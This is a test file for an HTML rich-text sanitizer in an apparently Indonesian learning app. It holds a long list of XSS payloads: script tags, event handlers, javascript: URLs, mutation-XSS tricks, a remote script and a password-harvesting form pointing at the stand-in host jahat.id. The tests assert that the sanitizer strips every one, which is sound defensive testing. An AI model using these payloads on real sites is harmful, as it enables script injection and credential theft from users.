import { describe, expect, test } from 'vitest';
import { processorTime } from '../../testing/processor-time.ts';
import { decodeRichText, isTooLong, readPesan, readRichText } from './rich-text.ts';

const clean = (html: string) => readRichText(html).html;
const png = 'data:image/png;base64,iVBORw0KGgo=';

describe('what stays', () => {
  test.each([
    ['a paragraph', '<p>Halo <strong>dunia</strong> dan <em>kelas</em></p>', undefined],
    ['headings', '<h2>Satu</h2><h3>Dua</h3><h4>Tiga</h4>', undefined],
    ['lists', '<ul><li>a</li></ul><ol><li>b</li></ol>', undefined],
    ['a line break', '<p>a<br />b</p>', undefined],
    [
      'a link',
      '<a href="https://contoh.id/a?b=1&amp;c=2">x</a>',
      '<a href="https://contoh.id/a?b=1&amp;c=2" target="_blank" rel="noopener nofollow">x</a>',
    ],
    [
      'an e-mail address',
      '<a href="mailto:a@b.id">x</a>',
      '<a href="mailto:a@b.id" target="_blank" rel="noopener nofollow">x</a>',
    ],
    [
      'a table',
      '<table><thead><tr><th colspan="2">a</th></tr></thead><tbody><tr><td rowspan="2">b</td></tr></tbody></table>',
      undefined,
    ],
    ['a picture', `<img src="${png}" alt="Gambar &quot;1&quot;" />`, undefined],
    [
      'what other editors write for the same',
      '<h1>a</h1><p><b>b</b><i>c</i></p>',
      '<h2>a</h2><p><strong>b</strong><em>c</em></p>',
    ],
    ['a formula in a line', '<p>Luas <span data-latex="\\pi r^2">\\pi r^2</span></p>', undefined],
    ['a formula of its own', '<div data-latex="a &lt; b">a &lt; b</div>', undefined],
    [
      'a formula with something else in it',
      '<span data-latex="x"><em>y</em></span>',
      '<span data-latex="x">x<em></em></span>',
    ],
    ['signs', '<p>1 &lt; 2 &amp;&amp; 3 &gt; 2</p>', undefined],
    ['text without a tag', 'halo', undefined],
  ])('%s', (_name, html, expected) => {
    expect(clean(html)).toBe(expected ?? html);
  });
});

describe('mentions in a message', () => {
  const ani = '<span data-sebut="u1">@Ani</span>';

  test.each<[string, string, string, readonly string[]]>([
    ['stay, each account once', `<p>${ani} dan ${ani}</p>`, `<p>${ani} dan ${ani}</p>`, ['u1']],
    [
      'have no other attribute',
      '<p><span data-sebut="u1" class="x" onclick="alert(1)" style="color:red">@Ani</span></p>',
      `<p>${ani}</p>`,
      ['u1'],
    ],
    ['need an account', '<p><span data-sebut="">@Ani</span></p>', '<p>@Ani</p>', []],
    ['are no other spans', '<p><span>@Ani</span></p>', '<p>@Ani</p>', []],
    ['are no formulas', '<p><span data-latex="x^2">x</span></p>', '<p>x^2</p>', []],
    [
      'keep an id that looks like HTML',
      '<p><span data-sebut="&quot;>&lt;img src=x onerror=alert(1)>">@Ani</span></p>',
      '<p><span data-sebut="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">@Ani</span></p>',
      ['"><img src=x onerror=alert(1)>'],
    ],
  ])('%s', (_name, sent, html, sebutan) => {
    expect(readPesan(sent)).toMatchObject({ html, sebutan });
  });

  test('carry the names of their accounts, and strangers are plain text', () => {
    const sent =
      '<p><span data-sebut="u1">@Rektor <em>besar</em></span> <span data-sebut="u2">@Budi</span></p>';
    expect(readPesan(sent, new Map([['u1', 'Ani <Putri>']]))).toMatchObject({
      html: '<p><span data-sebut="u1">@Ani &lt;Putri&gt;<em></em></span> @Budi</p>',
      text: '@Ani <Putri> @Budi',
      sebutan: ['u1'],
    });
  });

  test('are no part of other texts', () => {
    expect(clean(`<p>${ani}</p>`)).toBe('<p>@Ani</p>');
  });
});

/** Nothing of these may run, load or style in a browser. */
const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script src=//jahat.id/x.js></script>',
  '<script/x>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  `<img src="${png}" onload="alert(1)">`,
  '<img/src="x"/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="https://jahat.id/lacak.gif">',
  '<img src="//jahat.id/lacak.gif">',
  '<img srcset="https://jahat.id/a.png 1x" src="x">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"></use></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<xmp><script>alert(1)</script></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<template><script>alert(1)</script></template>',
  '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://jahat.id/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://jahat.id/a.css">',
  '<style>@import "https://jahat.id/a.css";</style>',
  '<style>body{display:none}</style>',
  '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">x</p>',
  '<p class="mantine-Modal-root" id="root">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://contoh.id/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//jahat.id">x</a>',
  '<a href="/v2/lms/keluar">x</a>',
  '<a href="https://a.id" target="_top" rel="opener" ping="https://jahat.id" onclick="alert(1)">x</a>',
  '<form action="https://jahat.id"><input name="sandi"><button>Masuk</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)" colspan="1;x">x</td></tr></table>',
  '<td colspan="99999">x</td>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<p <script>alert(1)</script>>x</p>',
  '<<img src=x onerror=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<p title="><img src=x onerror=alert(1)>">x</p>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<span data-latex="\\href{javascript:alert(1)}{x}" onclick="alert(1)">x</span>',
  '<span data-latex="&quot;><img src=x onerror=alert(1)>"></span>',
  '<div style="position:fixed" class="x">x</div>',
  '<span data-latex="x"><img src=x onerror=alert(1)></span>',
  '&lt;img src=x onerror=alert(1)&gt;',
  encodeURIComponent('<img src=x onerror=alert(1)>'),
  encodeURIComponent('<p onclick="alert(1)">x</p>'),
];

const quoted = '"[^"<>]*"';
const tag = new RegExp(
  [
    '</?(?:p|h[2-4]|strong|em|ul|ol|li|table|thead|tbody|tr|th|td)>',
    '<br />',
    '<t[hd](?: (?:colspan|rowspan)="[1-9][0-9]?"){1,2}>',
    '<a>|</a>',
    '<a href="(?:https?://|mailto:)[^"<>]*" target="_blank" rel="noopener nofollow">',
    `<(?:span|div) data-latex=${quoted}>|</(?:span|div)>`,
    `<img src="data:image/(?:png|jpeg|webp|gif);base64,[A-Za-z0-9+/]+={0,2}"(?: alt=${quoted})? />`,
  ].join('|'),
  'g',
);

const strangers = (html: string) => html.replaceAll(tag, '').match(/[<>].{0,40}/g) ?? [];

describe('what goes', () => {
  test.each(payloads.map((payload) => [payload]))('%s', (payload) => {
    const html = clean(payload);
    expect(strangers(html)).toEqual([]);
    expect(clean(html)).toBe(html);
  });

  test('all of them at once, and one inside the other', () => {
    expect(strangers(clean(payloads.join('')))).toEqual([]);
    expect(strangers(clean(payloads.map((payload) => `<p>${payload}`).join('</p>')))).toEqual([]);
  });

  test('tags nested beyond measure are not read at all, those below it end in time', () => {
    expect(isTooLong(readRichText('<ul><li>'.repeat(150_000)), 20_000)).toBe(true);
    const worked = processorTime();
    expect(strangers(clean('<ul><li>'.repeat(9_000)))).toEqual([]);
    expect(worked()).toBeLessThan(10_000);
  });

  test('characters that Postgres refuses or that turn text around', () => {
    const html = clean('<p>a\u0000b&#0;\ud800</p>');
    expect([html.includes('\u0000'), html.isWellFormed()]).toEqual([false, true]);
  });
});

describe('percent-encoded input (K10)', () => {
  test.each([
    ['encoded HTML', encodeURIComponent('<p>Halo 100%</p>'), '<p>Halo 100%</p>'],
    ['HTML with a percent sign', '<p>100%25</p>', '<p>100%25</p>'],
    ['text with a percent sign', 'diskon 50%', 'diskon 50%'],
    ['encoded text without a tag', 'a%20b', 'a%20b'],
    ['broken encoding', '%3Cp%3E%ZZ', '%3Cp%3E%ZZ'],
    [
      'encoded twice is decoded once',
      encodeURIComponent(encodeURIComponent('<p>a</p>')),
      encodeURIComponent(encodeURIComponent('<p>a</p>')),
    ],
  ])('%s', (_name, sent, expected) => {
    expect(decodeRichText(sent)).toBe(expected);
  });
});

describe('what can be read of it', () => {
  test.each([
    ['blocks stand apart', '<p>satu</p><p>dua</p>', 'satu dua'],
    ['signs are one character', '<p>a &amp; b &lt;c&gt;</p>', 'a & b <c>'],
    ['only spaces are nothing', '<p> &nbsp;\u200b</p><p><br></p>', ''],
  ])('%s', (_name, html, text) => {
    expect(readRichText(html).text).toBe(text);
  });

  test('nothing to be seen is nothing; a picture is something', () => {
    expect(clean('<p>&nbsp;</p>')).toBe('');
    expect(clean(`<p><img src="${png}"></p>`)).toContain('<img');
  });

  test('its length is what is seen; its size is everything', () => {
    const just = readRichText(`<p>${'<strong>😀</strong>'.repeat(5)}</p>`);
    expect([isTooLong(just, 5), isTooLong(just, 4)]).toEqual([false, true]);
    const picture = readRichText(`<img src="data:image/png;base64,${'A'.repeat(1_000_000)}">`);
    expect(isTooLong(picture, 20_000)).toBe(true);
  });
});
